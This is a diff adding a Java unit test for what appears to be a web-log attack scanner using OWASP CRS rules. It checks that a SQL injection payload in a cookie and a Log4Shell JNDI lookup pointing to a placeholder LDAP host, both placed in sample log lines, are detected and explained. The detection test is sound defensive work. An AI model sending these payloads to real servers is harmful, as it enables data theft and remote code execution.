@@ -49,6 +49,40 @@ class CrsRulesTest {
   }
 
   /**
+   * A site's log that holds the Cookie and Accept headers: a scan judges them with Evident's
+   * rules and CRS's, and explain says where each match was found and after which of the rule's
+   * transformations (CRS's cookie rules read cookies as sent, not decoded as arguments are).
+   */
+  @Test
+  void cookiesAndOtherHeadersALogHoldsAreJudged() throws Exception {
+    String format = "apache:%h %l %u %t \"%r\" %>s %b \"%{Referer}i\" \"%{User-Agent}i\""
+        + " \"%{Cookie}i\" \"%{Accept}i\"";
+    Path site = dir.resolve("site.log");
+    Files.writeString(site, String.join("\n",
+        "203.0.113.5 - - [10/Feb/2013:10:00:00 +0000] \"GET /account HTTP/1.1\" 200 5 \"-\""
+            + " \"Mozilla/5.0\" \"session=abc; pref=1' UNION SELECT password FROM users--\""
+            + " \"text/html\"",
+        "203.0.113.6 - - [10/Feb/2013:10:00:01 +0000] \"GET /account HTTP/1.1\" 200 5 \"-\""
+            + " \"Mozilla/5.0\" \"session=abc; _ga=GA1.2.3\" \"text/html\"",
+        "203.0.113.7 - - [10/Feb/2013:10:00:02 +0000] \"GET / HTTP/1.1\" 200 5 \"-\""
+            + " \"Mozilla/5.0\" \"-\" \"${jndi:ldap://x.example/a}\"", ""));
+    Cli.Result s = Cli.run("scan", "--no-geo", "--db", dir.resolve("h.duckdb").toString(),
+        "--format", format, "--rules", "evident," + CRS4, site.toString());
+    assertThat(s.code()).as(s.err()).isZero();
+    assertThat(s.out()).contains("2 attack requests");
+    Cli.Result ev = Cli.run("events", "--db", dir.resolve("h.duckdb").toString(), "--format",
+        "csv");
+    assertThat(ev.out().split("\n")).hasSize(3);
+    assertThat(ev.out()).contains(",sqli,", ",log4shell,");
+    Cli.Result e = Cli.run("explain", "--rules", "evident," + CRS4, "--log-format", format,
+        site.toString());
+    assertThat(e.code()).as(e.err()).isZero();
+    assertThat(e.out()).contains("942100  critical (+5)  sqli  in request_cookies:pref after"
+        + " none:", "EV-944150  critical (+5)  log4shell  in request_headers:accept",
+        "line 2: clean");
+  }
+
+  /**
    * A free-text entry excuses all of CRS in a field on the understanding that Evident's rules
    * judge it still: a scan that loads it without them says that attacks there are not counted.
    */
